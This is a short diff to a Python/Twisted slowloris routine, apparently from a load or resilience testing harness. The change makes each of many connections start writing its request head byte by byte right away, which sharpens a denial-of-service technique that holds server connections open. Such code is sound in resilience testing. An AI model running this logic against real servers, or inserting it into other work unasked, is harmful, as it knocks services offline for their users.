@@ -86,6 +86,7 @@ def slowloris(reactor: Any, attackers: int, seconds: float, pace: float, address
                 self.transport.abortConnection()
                 return
             clients.append(self)
+            send(self)  # as slowloris.py: the request begins at once, then trickles
 
         def connectionLost(self, reason: Any = None) -> None:
             if self in clients:
@@ -102,10 +103,13 @@ def slowloris(reactor: Any, attackers: int, seconds: float, pace: float, address
         state["connects"] += 1
         connectProtocol(endpoints[index % len(endpoints)], Slow(index)).addErrback(lambda _: None)
 
+    def send(client: Any) -> None:
+        client.transport.write(head[client.sent:client.sent + 1])
+        client.sent += 1
+
     def tick() -> None:
         for client in list(clients):
-            client.transport.write(head[client.sent:client.sent + 1])
-            client.sent += 1
+            send(client)
 
     for index in range(attackers):
         connect(index)
